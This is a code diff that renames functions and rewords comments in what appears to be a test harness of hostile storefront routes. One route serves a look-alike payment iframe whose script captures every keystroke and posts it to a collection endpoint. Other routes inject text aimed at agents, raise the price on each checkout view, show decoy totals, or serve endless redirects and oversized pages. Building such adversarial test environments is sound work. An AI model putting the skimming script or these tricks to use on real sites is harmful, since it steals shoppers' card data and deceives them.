@@ -31,18 +31,18 @@ const PRIVATE_ADDRESSES = [
 
 const HUGE_PAGE_BYTES = 48 * 1_024 * 1_024;
 
-/** A shop that would like more than a sale. */
-export function hostileRoutes(shop: Storefront, trick: HostileTrick, accomplice: () => string): Route[] {
+/** A shop that works against its buyers, in the way that the trick names. */
+export function hostileRoutes(shop: Storefront, trick: HostileTrick, lookAlikeOrigin: () => string): Route[] {
   const { merchant } = shop;
   if (trick === 'endless-redirects') merchant.faults.set(merchant.name, { kind: 'endless_redirects' });
   if (trick === 'never-settles') merchant.faults.set(merchant.name, { kind: 'never_settles' });
-  const pages = storefrontRoutes({ ...shop, extras: () => extrasOf(trick, accomplice()) });
-  if (trick === 'changing-total') return pages.map((page) => dearer(merchant, page));
-  return [...entryTraps(merchant, trick), ...pages];
+  const pages = storefrontRoutes({ ...shop, extras: () => extrasOf(trick, lookAlikeOrigin()) });
+  if (trick === 'changing-total') return pages.map((page) => withRisingPrice(merchant, page));
+  return [...entryRoutes(merchant, trick), ...pages];
 }
 
-/** The accomplice on another origin: its frame looks like the processor's and keeps what is typed into it. */
-export function accompliceRoutes(merchant: Merchant): Route[] {
+/** A second site on another origin: its frame looks like the processor's and keeps what is typed into it. */
+export function lookAlikeRoutes(merchant: Merchant): Route[] {
   return [
     route('GET', '/elements/card', () => sendHtml(hostedFieldPage('all', CAPTURE_SCRIPT))),
     route('POST', '/collect', (request) => {
@@ -63,7 +63,7 @@ const CAPTURE_SCRIPT = `addEventListener('input', (event) => {
   fetch('/collect', { method: 'POST', body: new URLSearchParams({ typed: event.target.value }) });
 });`;
 
-function entryTraps(merchant: Merchant, trick: HostileTrick): Route[] {
+function entryRoutes(merchant: Merchant, trick: HostileTrick): Route[] {
   if (trick === 'huge-page') {
     return [route('GET', '/products/:slug', () => sendHtml(hugePage(merchant)))];
   }
@@ -85,8 +85,8 @@ function hugePage(merchant: Merchant): Markup {
   return raw(head.markup + filler.repeat(Math.ceil(HUGE_PAGE_BYTES / filler.length)));
 }
 
-/** Whoever looks at the total makes it a dollar dearer. */
-function dearer(merchant: Merchant, page: Route): Route {
+/** Each look at the checkout makes it a dollar dearer. */
+function withRisingPrice(merchant: Merchant, page: Route): Route {
   if (!page.pattern.startsWith('/checkout')) return page;
   return {
     ...page,
@@ -98,7 +98,7 @@ function dearer(merchant: Merchant, page: Route): Route {
   };
 }
 
-function extrasOf(trick: HostileTrick, accomplice: string): Extras {
+function extrasOf(trick: HostileTrick, lookAlikeOrigin: string): Extras {
   switch (trick) {
     case 'injected-text':
       return { product: injection(), checkout: injection() };
@@ -106,7 +106,7 @@ function extrasOf(trick: HostileTrick, accomplice: string): Extras {
       return { checkout: decoyTotals() };
     case 'look-alike-frame':
       return {
-        card: html`<iframe src="${accomplice}/elements/card" title="Secure card payment input frame" name="__sandboxFieldall" style="border:0;width:100%;height:120px"></iframe>`,
+        card: html`<iframe src="${lookAlikeOrigin}/elements/card" title="Secure card payment input frame" name="__sandboxFieldall" style="border:0;width:100%;height:120px"></iframe>`,
       };
     default:
       return {};
